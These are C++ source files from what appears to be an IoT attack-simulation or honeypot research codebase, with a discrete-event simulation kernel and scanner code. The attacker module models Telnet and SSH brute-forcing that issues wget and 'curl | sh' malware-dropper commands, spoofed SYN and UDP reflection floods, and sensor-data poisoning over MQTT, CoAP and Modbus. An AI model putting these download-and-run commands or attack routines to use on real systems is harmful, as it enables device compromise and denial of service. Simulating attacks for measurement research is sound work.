                      proto::coap::encode(
                          proto::coap::make_discovery_request(1)));
      break;
    case proto::Protocol::kUpnp:
      from.udp().send(target, 1900,
                      proto::ssdp::encode_msearch(proto::ssdp::MSearch{}));
      break;
    case proto::Protocol::kSsh:
      tcp_touch(from, target, 22, util::to_bytes("SSH-2.0-probe\r\n"));
      break;
    case proto::Protocol::kHttp: {
      proto::http::Request request;
      tcp_touch(from, target, 80, proto::http::encode_request(request));
      break;
    }
    case proto::Protocol::kFtp:
      tcp_touch(from, target, 21, {});
      break;
    case proto::Protocol::kSmb: {
      proto::smb::SmbFrame negotiate;
      negotiate.command = proto::smb::Command::kNegotiate;
      tcp_touch(from, target, 445, proto::smb::encode_frame(negotiate));
      break;
    }
    case proto::Protocol::kModbus: {
      proto::modbus::Request request;
      request.function = 0x11;  // report server id
      tcp_touch(from, target, 502, proto::modbus::encode_request(request));
      break;
    }
    case proto::Protocol::kS7:
      tcp_touch(from, target, 102, proto::s7::encode_cotp_connect());
      break;
  }
}

void probe_all_protocols(net::Host& from, util::Ipv4Addr target) {
  for (const auto protocol : proto::scanned_protocols()) {
    probe_one_protocol(from, target, protocol);
  }
  probe_one_protocol(from, target, proto::Protocol::kSsh);
  probe_one_protocol(from, target, proto::Protocol::kHttp);
}

void bruteforce_telnet(net::Host& from, util::Ipv4Addr target,
                       std::vector<proto::Credentials> credentials,
                       const MalwareSample* drop, int connect_attempts) {
  const obs::TraceContext trace(
      trace_attack(from, target, 23, proto::Protocol::kTelnet));
  std::vector<std::string> commands;
  if (drop != nullptr) {
    commands.push_back("wget " + drop->dropper_url + " -O /tmp/" +
                       drop->variant + "; chmod +x /tmp/" + drop->variant +
                       "; /tmp/" + drop->variant + " sha256=" + drop->sha256);
  }
  proto::telnet::TelnetClient::run(from, target, 23, std::move(credentials),
                                   std::move(commands), [](const auto&) {},
                                   sim::seconds(2), connect_attempts);
}

void bruteforce_ssh(net::Host& from, util::Ipv4Addr target,
                    std::vector<proto::Credentials> credentials,
                    const MalwareSample* drop) {
  const obs::TraceContext trace(
      trace_attack(from, target, 22, proto::Protocol::kSsh));
  std::vector<std::string> commands;
  if (drop != nullptr) {
    commands.push_back("curl -s " + drop->dropper_url + " | sh # sha256=" +
                       drop->sha256);
  }
  proto::ssh::SshClient::run(from, target, 22, std::move(credentials),
                             std::move(commands), [](const auto&) {});
}

void attack_mqtt(net::Host& from, util::Ipv4Addr target, bool poison) {
  const obs::TraceContext trace(
      trace_attack(from, target, 1883, proto::Protocol::kMqtt));
  proto::mqtt::ConnectPacket connect;
  connect.client_id = "bot";
  util::Bytes payload = proto::mqtt::encode_connect(connect);
  proto::mqtt::SubscribePacket subscribe;
  subscribe.packet_id = 1;
  subscribe.topic_filters = {"$SYS/#", "#"};
  const auto sub = proto::mqtt::encode_subscribe(subscribe);
  payload.insert(payload.end(), sub.begin(), sub.end());
  if (poison) {
    proto::mqtt::PublishPacket publish;
    publish.topic = "arduino/sensors/smoke";
    publish.payload = util::to_bytes("0xDEAD");
    publish.retain = true;
    const auto pub = proto::mqtt::encode_publish(publish);
    payload.insert(payload.end(), pub.begin(), pub.end());
  }
  tcp_touch(from, target, 1883, std::move(payload));
}

void attack_amqp(net::Host& from, util::Ipv4Addr target, int publish_count) {
  const obs::TraceContext trace(
      trace_attack(from, target, 5672, proto::Protocol::kAmqp));
  util::Bytes payload = proto::amqp::protocol_header();
  proto::amqp::Frame auth;
  auth.type = proto::amqp::FrameType::kMethod;
  auth.payload = proto::amqp::encode_start_ok(
      proto::amqp::StartOkMethod{"ANONYMOUS", "", ""});
  const auto auth_bytes = proto::amqp::encode_frame(auth);
  payload.insert(payload.end(), auth_bytes.begin(), auth_bytes.end());
  for (int i = 0; i < publish_count; ++i) {
    const auto publish = proto::amqp::AmqpBroker::publish_command(
        "sensor-readings", "junk-" + std::to_string(i));
    payload.insert(payload.end(), publish.begin(), publish.end());
  }
  tcp_touch(from, target, 5672, std::move(payload));
}

void attack_xmpp(net::Host& from, util::Ipv4Addr target) {
  const obs::TraceContext trace(
      trace_attack(from, target, 5222, proto::Protocol::kXmpp));
  from.tcp().connect(target, 5222, [](net::TcpConnection* conn) {
    if (conn == nullptr) return;
    auto stage = std::make_shared<int>(0);
    conn->on_data = [stage](net::TcpConnection& conn,
                            std::span<const std::uint8_t> data) {
      const std::string text = util::to_string(data);
      if (*stage == 0 &&
          text.find("</stream:features>") != std::string::npos) {
        *stage = 1;
        conn.send_text(proto::xmpp::sasl_auth("ANONYMOUS", ""));
      } else if (*stage == 1 && text.find("<success") != std::string::npos) {
        *stage = 2;
        conn.send_text(proto::xmpp::message_stanza(
            "lights@philips-hue.local", "state=off"));
      } else if (*stage == 2) {
        conn.close();
      }
    };
    conn->send_text(proto::xmpp::stream_open("bot"));
  });
}

void attack_coap(net::Host& from, util::Ipv4Addr target, bool poison) {
  const obs::TraceContext trace(
      trace_attack(from, target, 5683, proto::Protocol::kCoap));
  from.udp().send(target, 5683,
                  proto::coap::encode(proto::coap::make_discovery_request(7)));
  if (poison) {
    proto::coap::Message put;
    put.code = proto::coap::Code::kPut;
    put.message_id = 8;
    put.set_uri_path("sensors/smoke");
    put.payload = util::to_bytes("999");
    from.udp().send(target, 5683, proto::coap::encode(put));
  }
}

void flood_coap(net::Host& from, util::Ipv4Addr target,
                std::int64_t packets) {
  const obs::TraceContext trace(
      trace_attack(from, target, 5683, proto::Protocol::kCoap));
  for (std::int64_t i = 0; i < packets; ++i) {
    from.udp().send(target, 5683,
                    proto::coap::encode(proto::coap::make_discovery_request(
                        static_cast<std::uint16_t>(i))));
  }
}

void flood_ssdp(net::Host& from, util::Ipv4Addr target,
                std::int64_t packets) {
  const obs::TraceContext trace(
      trace_attack(from, target, 1900, proto::Protocol::kUpnp));
  const auto probe = proto::ssdp::encode_msearch(proto::ssdp::MSearch{});
  for (std::int64_t i = 0; i < packets; ++i) {
    from.udp().send(target, 1900, probe);
  }
}

void reflect_udp(net::Host& from, util::Ipv4Addr reflector,
                 util::Ipv4Addr victim, proto::Protocol protocol,
                 std::int64_t packets) {
  const obs::TraceContext trace(trace_attack(
      from, reflector, protocol == proto::Protocol::kCoap ? 5683 : 1900,
      protocol));
  const util::Bytes probe =
      protocol == proto::Protocol::kCoap
          ? proto::coap::encode(proto::coap::make_discovery_request(3))
          : proto::ssdp::encode_msearch(proto::ssdp::MSearch{});
  const std::uint16_t port =
      protocol == proto::Protocol::kCoap ? 5683 : 1900;
  for (std::int64_t i = 0; i < packets; ++i) {
    from.udp().send_spoofed(victim, reflector, port, probe, 33'000);
  }
}

void attack_http(net::Host& from, util::Ipv4Addr target, bool scrape,
                 bool bruteforce) {
  const obs::TraceContext trace(
      trace_attack(from, target, 80, proto::Protocol::kHttp));
  if (scrape) {
    for (const char* path : {"/", "/admin", "/config", "/backup.zip",
                             "/cgi-bin/luci", "/status"}) {
      proto::http::Request request;
      request.path = path;
      tcp_touch(from, target, 80, proto::http::encode_request(request));
    }
  }
  if (bruteforce) {
    for (const char* pass : {"admin", "12345", "password"}) {
      proto::http::Request request;
      request.method = "POST";
      request.path = "/login";
      request.body = std::string("user=admin&pass=") + pass;
      tcp_touch(from, target, 80, proto::http::encode_request(request));
    }
  }
}

void flood_http(net::Host& from, util::Ipv4Addr target,
                std::int64_t requests) {
  const obs::TraceContext trace(
      trace_attack(from, target, 80, proto::Protocol::kHttp));
  proto::http::Request request;
  const auto bytes = proto::http::encode_request(request);
  for (std::int64_t i = 0; i < requests; ++i) {
    tcp_touch(from, target, 80, util::Bytes(bytes));
  }
}

void attack_smb(net::Host& from, util::Ipv4Addr target, bool exploit) {
  const obs::TraceContext trace(
      trace_attack(from, target, 445, proto::Protocol::kSmb));
  proto::smb::SmbFrame negotiate;
  negotiate.command = proto::smb::Command::kNegotiate;
  util::Bytes payload = proto::smb::encode_frame(negotiate);
  if (exploit) {
    const auto probe = proto::smb::eternalblue_probe();
    payload.insert(payload.end(), probe.begin(), probe.end());
  } else {
    proto::smb::SmbFrame setup;
    setup.command = proto::smb::Command::kSessionSetup;
    util::ByteWriter body;
    body.str8("admin").str8("admin");
    setup.payload = body.take();
    const auto bytes = proto::smb::encode_frame(setup);
    payload.insert(payload.end(), bytes.begin(), bytes.end());
  }
  tcp_touch(from, target, 445, std::move(payload));
}

void attack_ftp(net::Host& from, util::Ipv4Addr target,
                const MalwareSample* drop) {
  const obs::TraceContext trace(
      trace_attack(from, target, 21, proto::Protocol::kFtp));
  std::string script = "USER anonymous\r\nPASS bot@bot\r\n";
  if (drop != nullptr) {
    script += "STOR " + drop->variant + ".bin\r\n" + drop->payload.substr(0, 64) +
              " sha256=" + drop->sha256 + "\r\n.\r\n";
  }
  script += "QUIT\r\n";
  tcp_touch(from, target, 21, util::to_bytes(script));
}

void attack_modbus(net::Host& from, util::Ipv4Addr target, util::Rng& rng) {
  const obs::TraceContext trace(
      trace_attack(from, target, 502, proto::Protocol::kModbus));
  util::Bytes payload;
  // ~90% of observed Modbus traffic used invalid function codes (§5.1.4).
  for (int i = 0; i < 10; ++i) {
    proto::modbus::Request request;
    request.transaction_id = static_cast<std::uint16_t>(i);
    if (rng.chance(0.9)) {
      request.function = static_cast<std::uint8_t>(0x60 + rng.below(0x20));
    } else {
      request.function = 0x06;  // write single register: the poisoning
      util::ByteWriter args;
      args.u16(static_cast<std::uint16_t>(rng.below(64)))
          .u16(static_cast<std::uint16_t>(rng.below(0xffff)));
      request.data = args.take();
    }
    const auto bytes = proto::modbus::encode_request(request);
    payload.insert(payload.end(), bytes.begin(), bytes.end());
  }
  tcp_touch(from, target, 502, std::move(payload));
}

void attack_s7(net::Host& from, util::Ipv4Addr target, int jobs) {
  const obs::TraceContext trace(
      trace_attack(from, target, 102, proto::Protocol::kS7));
  util::Bytes payload = proto::s7::encode_cotp_connect();
  for (int i = 0; i < jobs; ++i) {
    const auto job = proto::s7::encode_pdu(
        proto::s7::PduType::kJob, static_cast<std::uint16_t>(i), {});
    payload.insert(payload.end(), job.begin(), job.end());
  }
  tcp_touch(from, target, 102, std::move(payload));
}

void syn_flood_spoofed(net::Host& from, util::Ipv4Addr victim,
                       std::uint16_t port, std::int64_t packets,
                       util::Rng& rng) {
  // 0xff: a SYN flood is port-directed, not tied to one IoT protocol.
  const obs::TraceContext trace(
      trace_attack(from, victim, port, std::uint8_t{0xff}));
  std::vector<net::Packet> flood;
  flood.reserve(packets > 0 ? static_cast<std::size_t>(packets) : 0);
  for (std::int64_t i = 0; i < packets; ++i) {
    net::Packet packet;
    packet.src = util::Ipv4Addr(static_cast<std::uint32_t>(rng.next()));
    packet.dst = victim;
    packet.src_port = static_cast<std::uint16_t>(1024 + rng.below(60'000));
    packet.dst_port = port;
    packet.transport = net::Transport::kTcp;
    packet.tcp_flags = net::TcpFlags::kSyn;
    packet.spoofed_src = true;
    flood.push_back(std::move(packet));
  }
  // Batched: an unmaterialized victim's handshake responses are emulated
  // inline by the fabric instead of costing 2 sim events per SYN.
  from.fabric().send_flood(std::move(flood));
}

void scan_address(net::Host& from, util::Ipv4Addr target,
                  proto::Protocol protocol, bool masscan_fingerprint) {
  const obs::TraceContext trace(
      trace_attack(from, target, proto::default_port(protocol), protocol));
  if (proto::is_udp(protocol)) {
    net::Packet packet;
    packet.src = from.address();
    packet.dst = target;
    packet.src_port = 40'000;
    packet.dst_port = proto::default_port(protocol);
    packet.transport = net::Transport::kUdp;
    packet.from_masscan = masscan_fingerprint;
    packet.payload = util::to_bytes("probe");
    from.fabric().send(std::move(packet));
    return;
  }
  net::Packet packet;
  packet.src = from.address();
  packet.dst = target;
  packet.src_port = 40'000;
  packet.dst_port = proto::default_port(protocol);
  packet.transport = net::Transport::kTcp;
  packet.tcp_flags = net::TcpFlags::kSyn;
  packet.from_masscan = masscan_fingerprint;
  from.fabric().send(std::move(packet));
}

}  // namespace ofh::attackers
