// Deterministic parallel execution of independent Simulation instances.
//
// The kernel (sim/simulation.h) is single-threaded by contract; scale comes
// from running *independent* simulations — one per protocol sweep, one per
// experiment shard — on worker threads and merging their outputs in an
// order that depends only on the shard inputs, never on scheduling:
//
//   * shard_seed() derives decorrelated per-shard seeds via splitmix64;
//   * ParallelRunner::run() returns results in job-index order (each job
//     writes its own pre-allocated slot);
//   * merge_by_time() interleaves per-shard, time-sorted record vectors by
//     (time, shard index, intra-shard seq) — a total order, so the merged
//     stream is byte-identical no matter how many workers ran.
//
// With threads == 1 the same code path runs inline on the caller's thread,
// which is what makes "serial vs parallel output is byte-identical"
// testable rather than aspirational.
#pragma once

#include <algorithm>
#include <cstddef>
#include <cstdint>
#include <functional>
#include <utility>
#include <vector>

#include "util/rng.h"
#include "util/thread_pool.h"

namespace ofh::sim {

// Seed for shard `index`: splitmix64 over the base seed and a Weyl step, so
// neighbouring shards get decorrelated streams (the generator the study's
// Rng is itself seeded with).
inline std::uint64_t shard_seed(std::uint64_t base_seed,
                                std::uint64_t shard_index) {
  return util::splitmix64(base_seed +
                          0x9e3779b97f4a7c15ULL * (shard_index + 1));
}

class ParallelRunner {
 public:
  // threads == 1: run jobs inline on the calling thread (the serial
  // reference). threads == 0: one worker per hardware thread.
  explicit ParallelRunner(unsigned threads)
      : threads_(threads == 0 ? util::ThreadPool::default_thread_count()
                              : threads) {}

  unsigned threads() const { return threads_; }

  // Runs every job and returns their results in job-index order. R must be
  // default-constructible and movable.
  template <typename R>
  std::vector<R> run(std::vector<std::function<R()>> jobs) {
    std::vector<R> results(jobs.size());
    if (threads_ <= 1 || jobs.size() <= 1) {
      for (std::size_t i = 0; i < jobs.size(); ++i) results[i] = jobs[i]();
      return results;
    }
    {
      util::ThreadPool pool(static_cast<unsigned>(
          std::min<std::size_t>(threads_, jobs.size())));
      for (std::size_t i = 0; i < jobs.size(); ++i) {
        pool.submit([&results, &jobs, i] { results[i] = jobs[i](); });
      }
      pool.wait_idle();
    }
    return results;
  }

 private:
  unsigned threads_;
};

// Deterministic k-way merge of per-shard result vectors, each already
// sorted by time (simulation output is produced in event order, so shard
// vectors are non-decreasing by construction). Ties across shards resolve
// to the lower shard index; within a shard, original order is kept. The
// result is therefore a pure function of the shard contents.
template <typename T, typename TimeFn>
std::vector<T> merge_by_time(std::vector<std::vector<T>> shards,
                             TimeFn time_of) {
  std::vector<T> merged;
  std::size_t total = 0;
  for (const auto& shard : shards) total += shard.size();
  merged.reserve(total);
  std::vector<std::size_t> cursor(shards.size(), 0);
  while (merged.size() < total) {
    std::size_t best = shards.size();
    for (std::size_t s = 0; s < shards.size(); ++s) {
      if (cursor[s] >= shards[s].size()) continue;
      if (best == shards.size() ||
          time_of(shards[s][cursor[s]]) < time_of(shards[best][cursor[best]])) {
        best = s;
      }
    }
    merged.push_back(std::move(shards[best][cursor[best]]));
    ++cursor[best];
  }
  return merged;
}

}  // namespace ofh::sim
