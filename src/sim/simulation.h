// Discrete-event simulation kernel. Events are closures ordered by
// (time, insertion sequence); ties are FIFO so runs are deterministic.
// Storage is a pool-allocated event arena (sim/event_queue.h) holding
// small-buffer callables (sim/small_callable.h), so the hot loop performs
// no per-event heap allocation in steady state.
//
// Threading: a Simulation instance is single-threaded by design — the
// determinism contract is (time, seq) total order, which has no meaning
// across concurrent mutators. Parallelism happens one level up:
// sim/parallel.h runs independent Simulation instances on worker threads
// and merges their outputs deterministically.
#pragma once

#include <cstdint>

#include "sim/event_queue.h"
#include "sim/small_callable.h"
#include "sim/time.h"

namespace ofh::sim {

class Simulation {
 public:
  using Action = SmallCallable;

  Time now() const { return now_; }
  std::uint64_t events_processed() const { return processed_; }
  std::size_t pending() const { return queue_.size(); }

  // Schedules an action at an absolute time (clamped to now).
  void at(Time t, Action action) {
    if (t < now_) t = now_;
    queue_.push(t, next_seq_++, std::move(action));
  }

  void after(Duration d, Action action) { at(now_ + d, std::move(action)); }

  // Runs until the queue drains.
  void run() {
    while (step()) {
    }
  }

  // Runs events with time <= deadline; the clock ends at the deadline even
  // if the queue drained earlier, so periodic processes measure full
  // windows. A deadline in the past is a no-op: the clock never rewinds.
  void run_until(Time deadline) {
    while (!queue_.empty() && queue_.top_when() <= deadline) step();
    if (deadline > now_) now_ = deadline;
  }

  // Executes the single earliest event; returns false when idle.
  bool step() {
    if (queue_.empty()) return false;
    Time when = 0;
    Action action = queue_.pop(&when);
    now_ = when;
    ++processed_;
    action();
    return true;
  }

 private:
  EventQueue queue_;
  Time now_ = 0;
  std::uint64_t next_seq_ = 0;
  std::uint64_t processed_ = 0;
};

}  // namespace ofh::sim
