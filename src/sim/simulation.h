// Discrete-event simulation kernel. Events are closures ordered by
// (time, insertion sequence); ties are FIFO so runs are deterministic.
#pragma once

#include <cstdint>
#include <functional>
#include <queue>
#include <vector>

#include "sim/time.h"

namespace ofh::sim {

class Simulation {
 public:
  using Action = std::function<void()>;

  Time now() const { return now_; }
  std::uint64_t events_processed() const { return processed_; }
  std::size_t pending() const { return queue_.size(); }

  // Schedules an action at an absolute time (clamped to now).
  void at(Time t, Action action) {
    if (t < now_) t = now_;
    queue_.push(Event{t, next_seq_++, std::move(action)});
  }

  void after(Duration d, Action action) { at(now_ + d, std::move(action)); }

  // Runs until the queue drains.
  void run() {
    while (step()) {
    }
  }

  // Runs events with time <= deadline; the clock ends at the deadline even
  // if the queue drained earlier, so periodic processes measure full windows.
  void run_until(Time deadline) {
    while (!queue_.empty() && queue_.top().when <= deadline) step();
    now_ = deadline;
  }

  // Executes the single earliest event; returns false when idle.
  bool step() {
    if (queue_.empty()) return false;
    // Move the event out before popping: the action may schedule new events.
    Event event = std::move(const_cast<Event&>(queue_.top()));
    queue_.pop();
    now_ = event.when;
    ++processed_;
    event.action();
    return true;
  }

 private:
  struct Event {
    Time when;
    std::uint64_t seq;
    Action action;
    bool operator>(const Event& other) const {
      if (when != other.when) return when > other.when;
      return seq > other.seq;
    }
  };

  std::priority_queue<Event, std::vector<Event>, std::greater<>> queue_;
  Time now_ = 0;
  std::uint64_t next_seq_ = 0;
  std::uint64_t processed_ = 0;
};

}  // namespace ofh::sim
