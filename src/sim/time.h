// Simulated time. One tick is a microsecond; a month-long deployment is
// ~2.6e12 ticks, comfortably inside 64 bits.
#pragma once

#include <cstdint>
#include <string>

namespace ofh::sim {

using Time = std::uint64_t;      // absolute microseconds since sim start
using Duration = std::uint64_t;  // microseconds

constexpr Duration usec(std::uint64_t n) { return n; }
constexpr Duration msec(std::uint64_t n) { return n * 1000; }
constexpr Duration seconds(std::uint64_t n) { return n * 1'000'000; }
constexpr Duration minutes(std::uint64_t n) { return seconds(n * 60); }
constexpr Duration hours(std::uint64_t n) { return minutes(n * 60); }
constexpr Duration days(std::uint64_t n) { return hours(n * 24); }

constexpr std::uint64_t to_seconds(Duration d) { return d / 1'000'000; }
constexpr std::uint64_t to_days(Duration d) { return d / days(1); }

// "d03 07:12:45.123456" — used in logs and the daily time series.
std::string format_time(Time t);

}  // namespace ofh::sim
