#include "sim/time.h"

#include <cstdio>

namespace ofh::sim {

std::string format_time(Time t) {
  const std::uint64_t us = t % 1'000'000;
  std::uint64_t s = t / 1'000'000;
  const std::uint64_t day = s / 86'400;
  s %= 86'400;
  char buf[48];
  std::snprintf(buf, sizeof(buf), "d%02llu %02llu:%02llu:%02llu.%06llu",
                static_cast<unsigned long long>(day),
                static_cast<unsigned long long>(s / 3600),
                static_cast<unsigned long long>((s / 60) % 60),
                static_cast<unsigned long long>(s % 60),
                static_cast<unsigned long long>(us));
  return buf;
}

}  // namespace ofh::sim
