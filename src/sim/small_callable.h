// Small-buffer type-erased `void()` callable for the event queue hot path.
// Closures up to kInlineSize bytes live inside the object (and therefore
// inside the event arena node — no allocation per event); larger ones fall
// back to a single heap allocation, like std::function but with a buffer
// sized for the scanner/fabric closures instead of the library default.
#pragma once

#include <cstddef>
#include <new>
#include <type_traits>
#include <utility>

namespace ofh::sim {

class SmallCallable {
 public:
  // Sized to hold the largest hot-path closure (banner-window resolution:
  // this + shared_ptr + shared_ptr + ConnKey + address/port) inline.
  static constexpr std::size_t kInlineSize = 64;

  SmallCallable() noexcept = default;

  template <typename F,
            typename = std::enable_if_t<
                !std::is_same_v<std::decay_t<F>, SmallCallable> &&
                std::is_invocable_r_v<void, std::decay_t<F>&>>>
  // NOLINTNEXTLINE(google-explicit-constructor): drop-in for std::function.
  SmallCallable(F&& fn) {
    using Fn = std::decay_t<F>;
    if constexpr (sizeof(Fn) <= kInlineSize &&
                  alignof(Fn) <= alignof(std::max_align_t)) {
      ::new (static_cast<void*>(storage_)) Fn(std::forward<F>(fn));
      ops_ = &inline_ops<Fn>;
    } else {
      ::new (static_cast<void*>(storage_)) Fn*(new Fn(std::forward<F>(fn)));
      ops_ = &heap_ops<Fn>;
    }
  }

  SmallCallable(SmallCallable&& other) noexcept { move_from(other); }

  SmallCallable& operator=(SmallCallable&& other) noexcept {
    if (this != &other) {
      reset();
      move_from(other);
    }
    return *this;
  }

  SmallCallable(const SmallCallable&) = delete;
  SmallCallable& operator=(const SmallCallable&) = delete;

  ~SmallCallable() { reset(); }

  explicit operator bool() const noexcept { return ops_ != nullptr; }

  void operator()() { ops_->invoke(storage_); }

  void reset() noexcept {
    if (ops_ != nullptr) {
      ops_->destroy(storage_);
      ops_ = nullptr;
    }
  }

 private:
  struct Ops {
    void (*invoke)(void* storage);
    // Move-constructs `to` from `from` and destroys `from`.
    void (*relocate)(void* from, void* to);
    void (*destroy)(void* storage);
  };

  template <typename Fn>
  static constexpr Ops inline_ops = {
      [](void* storage) { (*static_cast<Fn*>(storage))(); },
      [](void* from, void* to) {
        ::new (to) Fn(std::move(*static_cast<Fn*>(from)));
        static_cast<Fn*>(from)->~Fn();
      },
      [](void* storage) { static_cast<Fn*>(storage)->~Fn(); },
  };

  template <typename Fn>
  static constexpr Ops heap_ops = {
      [](void* storage) { (**static_cast<Fn**>(storage))(); },
      [](void* from, void* to) {
        ::new (to) Fn*(*static_cast<Fn**>(from));
      },
      [](void* storage) { delete *static_cast<Fn**>(storage); },
  };

  void move_from(SmallCallable& other) noexcept {
    if (other.ops_ != nullptr) {
      ops_ = other.ops_;
      ops_->relocate(other.storage_, storage_);
      other.ops_ = nullptr;
    }
  }

  alignas(std::max_align_t) unsigned char storage_[kInlineSize];
  const Ops* ops_ = nullptr;
};

}  // namespace ofh::sim
