// Pool-backed event queue for the simulation kernel. Event nodes live in a
// chunked arena with stable addresses and are recycled through a free list,
// so steady-state scheduling performs no allocation (the previous kernel
// heap-allocated a std::function per event). An index binary-heap orders
// events by (time, seq): seq is the insertion sequence, so ties are FIFO and
// runs are deterministic.
#pragma once

#include <cassert>
#include <cstdint>
#include <memory>
#include <vector>

#include "sim/small_callable.h"
#include "sim/time.h"

namespace ofh::sim {

class EventQueue {
 public:
  bool empty() const { return heap_.empty(); }
  std::size_t size() const { return heap_.size(); }

  Time top_when() const {
    assert(!heap_.empty());
    return at(heap_.front()).when;
  }

  void push(Time when, std::uint64_t seq, SmallCallable action) {
    const std::uint32_t index = allocate();
    Node& node = at(index);
    node.when = when;
    node.seq = seq;
    node.action = std::move(action);
    heap_.push_back(index);
    sift_up(heap_.size() - 1);
  }

  // Removes the earliest event; returns its action and stores its time in
  // *when. The node returns to the free list before the action runs, so an
  // action that schedules new events reuses it immediately.
  SmallCallable pop(Time* when) {
    assert(!heap_.empty());
    const std::uint32_t index = heap_.front();
    Node& node = at(index);
    *when = node.when;
    SmallCallable action = std::move(node.action);
    heap_.front() = heap_.back();
    heap_.pop_back();
    if (!heap_.empty()) sift_down(0);
    release(index);
    return action;
  }

 private:
  struct Node {
    Time when = 0;
    std::uint64_t seq = 0;
    SmallCallable action;
    std::uint32_t next_free = kNil;
  };

  static constexpr std::uint32_t kNil = 0xffffffffU;
  static constexpr std::size_t kChunkShift = 8;  // 256 nodes per chunk
  static constexpr std::size_t kChunkSize = std::size_t{1} << kChunkShift;

  Node& at(std::uint32_t index) {
    return chunks_[index >> kChunkShift][index & (kChunkSize - 1)];
  }
  const Node& at(std::uint32_t index) const {
    return chunks_[index >> kChunkShift][index & (kChunkSize - 1)];
  }

  std::uint32_t allocate() {
    if (free_head_ == kNil) {
      const auto base =
          static_cast<std::uint32_t>(chunks_.size() * kChunkSize);
      chunks_.push_back(std::make_unique<Node[]>(kChunkSize));
      Node* chunk = chunks_.back().get();
      for (std::size_t i = kChunkSize; i-- > 0;) {
        chunk[i].next_free = free_head_;
        free_head_ = base + static_cast<std::uint32_t>(i);
      }
    }
    const std::uint32_t index = free_head_;
    free_head_ = at(index).next_free;
    return index;
  }

  void release(std::uint32_t index) {
    Node& node = at(index);
    node.action.reset();
    node.next_free = free_head_;
    free_head_ = index;
  }

  bool before(std::uint32_t a, std::uint32_t b) const {
    const Node& na = at(a);
    const Node& nb = at(b);
    if (na.when != nb.when) return na.when < nb.when;
    return na.seq < nb.seq;
  }

  void sift_up(std::size_t pos) {
    while (pos > 0) {
      const std::size_t parent = (pos - 1) / 2;
      if (!before(heap_[pos], heap_[parent])) break;
      std::swap(heap_[pos], heap_[parent]);
      pos = parent;
    }
  }

  void sift_down(std::size_t pos) {
    const std::size_t count = heap_.size();
    while (true) {
      const std::size_t left = 2 * pos + 1;
      if (left >= count) break;
      std::size_t smallest = left;
      const std::size_t right = left + 1;
      if (right < count && before(heap_[right], heap_[left])) smallest = right;
      if (!before(heap_[smallest], heap_[pos])) break;
      std::swap(heap_[pos], heap_[smallest]);
      pos = smallest;
    }
  }

  std::vector<std::unique_ptr<Node[]>> chunks_;
  std::vector<std::uint32_t> heap_;  // indices into the arena
  std::uint32_t free_head_ = kNil;
};

}  // namespace ofh::sim
