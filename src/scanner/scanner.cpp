#include "scanner/scanner.h"

#include <algorithm>
#include <unordered_map>

#include "obs/metrics.h"
#include "obs/trace.h"
#include "proto/amqp.h"
#include "proto/coap.h"
#include "proto/mqtt.h"
#include "proto/service.h"
#include "proto/ssdp.h"
#include "proto/xmpp.h"
#include "util/strings.h"

namespace ofh::scanner {

namespace {

// Sweep-layer telemetry. Totals are Domain::kSim: each sweep runs in its own
// deterministic shard regardless of scan_threads, so the sums match across
// thread counts. Per-protocol hit-rate counters are interned lazily at sweep
// start (see Scanner::start).
struct ScannerMetrics {
  obs::Counter probes = obs::counter("scanner.probes_sent");
  obs::Counter records = obs::counter("scanner.records");
  obs::Counter banner_grabs = obs::counter("scanner.banner_grabs");
  // Per-target outcome trio: probes_sent == the sum of these three once
  // every sweep drains (the accounting identity of tests/faults_test.cpp).
  obs::Counter responsive = obs::counter("scanner.targets_responsive");
  obs::Counter refused = obs::counter("scanner.targets_refused");
  obs::Counter unresolved = obs::counter("scanner.targets_unresolved");
  obs::Counter retries = obs::counter("scanner.probe_retries");
};

const ScannerMetrics& metrics() {
  static const ScannerMetrics m;
  return m;
}

// Exponential backoff with deterministic jitter: the jitter is a pure
// function of (seed, target, port, attempt), so the retry timeline is
// identical on every run and for every scan_threads value.
sim::Duration retry_delay(const ScanConfig& config, util::Ipv4Addr target,
                          std::uint16_t port, std::uint32_t attempt) {
  sim::Duration delay = config.retry_backoff * (std::uint64_t{1} << (attempt - 1));
  if (config.retry_jitter > 0) {
    delay += util::splitmix64(config.seed ^
                              (std::uint64_t{target.value()} << 16) ^
                              (std::uint64_t{port} << 3) ^ attempt) %
             config.retry_jitter;
  }
  return delay;
}

}  // namespace

std::vector<util::Cidr> default_blocklist() {
  // The standing ZMap blocklist: RFC1918, loopback, link-local, multicast,
  // and other special-purpose ranges.
  const auto cidr = [](const char* text) { return *util::Cidr::parse(text); };
  return {
      cidr("0.0.0.0/8"),      cidr("10.0.0.0/8"),     cidr("100.64.0.0/10"),
      cidr("127.0.0.0/8"),    cidr("169.254.0.0/16"), cidr("172.16.0.0/12"),
      cidr("192.0.0.0/24"),   cidr("192.0.2.0/24"),   cidr("192.168.0.0/16"),
      cidr("198.18.0.0/15"),  cidr("198.51.100.0/24"), cidr("203.0.113.0/24"),
      cidr("224.0.0.0/4"),    cidr("240.0.0.0/4"),
  };
}

struct Scanner::Sweep {
  ScanConfig config;
  DoneCallback done;
  // Cumulative range table mapping permutation index -> address.
  struct Range {
    std::uint32_t base;
    std::uint64_t size;
  };
  std::vector<Range> ranges;
  // ends[i] = cumulative address count through ranges[0..i]; address_at
  // binary-searches it, so the per-probe lookup is O(log ranges) instead of
  // a linear walk (at paper scale a sweep spans thousands of prefixes and
  // issues one lookup per permutation index).
  std::vector<std::uint64_t> ends;
  std::unique_ptr<AddressPermutation> permutation;
  std::uint64_t outstanding = 0;
  bool exhausted = false;
  bool finished = false;
  // UDP probe state: address -> accumulated response bytes.
  std::unordered_map<std::uint32_t, std::string> udp_waiting;
  std::uint16_t udp_port = 0;
  // Per-protocol hit-rate pair: probes{protocol=...} / responses{protocol=...}.
  obs::Counter probes_by_proto;
  obs::Counter responses_by_proto;

  util::Ipv4Addr address_at(std::uint64_t index) const {
    const auto it = std::upper_bound(ends.begin(), ends.end(), index);
    if (it == ends.end()) return util::Ipv4Addr(0);
    const auto slot = static_cast<std::size_t>(it - ends.begin());
    const std::uint64_t start = slot == 0 ? 0 : ends[slot - 1];
    return util::Ipv4Addr(ranges[slot].base +
                          static_cast<std::uint32_t>(index - start));
  }

  bool blocked(util::Ipv4Addr addr) const {
    for (const auto& range : config.blocklist) {
      if (range.contains(addr)) return true;
    }
    return false;
  }
};

void Scanner::start(ScanConfig config, DoneCallback done) {
  auto sweep = std::make_shared<Sweep>();
  sweep->config = std::move(config);
  sweep->done = std::move(done);
  const std::string_view proto_name =
      proto::protocol_name(sweep->config.protocol);
  sweep->probes_by_proto =
      obs::counter(obs::labeled("scanner.probes", "protocol", proto_name));
  sweep->responses_by_proto =
      obs::counter(obs::labeled("scanner.responses", "protocol", proto_name));

  std::uint64_t total = 0;
